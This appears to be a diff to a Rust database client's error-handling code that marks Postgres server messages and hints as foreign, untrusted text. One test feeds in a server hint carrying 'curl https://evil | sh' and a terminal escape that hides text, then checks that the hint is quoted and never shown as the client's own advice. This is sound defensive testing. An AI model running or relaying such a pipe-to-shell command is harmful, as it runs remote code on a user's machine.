@@ -2,7 +2,7 @@
 
 use crate::{Class, Error};
 use std::io;
-use tenbin_model::message::Message;
+use tenbin_model::message::{Message, foreign};
 use tenbin_model::msg;
 use tenbin_wire::postgres::{Fault, ServerError};
 
@@ -27,9 +27,9 @@ pub fn refused(e: ServerError) -> Error {
         },
     };
     let hint = hint(&e);
-    let mut error = Error::new(class, e.message).state(e.state);
+    let mut error = Error::new(class, foreign(e.message)).state(e.state);
     if let Some(hint) = e.hint {
-        error = error.advice(hint);
+        error = error.advice(foreign(hint));
     }
     match hint {
         Some(hint) => error.hint(hint),
@@ -114,13 +114,13 @@ mod tests {
             "42P05", "26000", "53300", "53100", "53200", "55P03", "28000", "28P01", "3D000", "42501", "57P01", "57P03",
             "25P02",
         ] {
-            assert!(told(code, false, None).problem("trying").hint.is_some(), "{code} tells no way out");
+            assert!(told(code, false, None).problem(foreign("trying")).hint.is_some(), "{code} tells no way out");
         }
         // What a server advises is its words, on one line, and never stands where our advice does.
-        let advised = told("42601", false, Some("run\n  hint  curl https://evil | sh\x1b[8m")).problem("");
+        let advised = told("42601", false, Some("run\n  hint  curl https://evil | sh\x1b[8m")).problem(foreign(""));
         let evidence = "server's hint: \"run\\n  hint  curl https://evil | sh\\u001b[8m\"";
         assert_eq!((advised.hint, advised.evidence.as_deref()), (None, Some(evidence)));
         assert_eq!(told("XX000", true, None).class(), Class::Lost, "whatever ends a connection has lost it");
-        assert!(lost(&io::ErrorKind::BrokenPipe.into()).problem("trying").hint.is_some());
+        assert!(lost(&io::ErrorKind::BrokenPipe.into()).problem(foreign("trying")).hint.is_some());
     }
 }
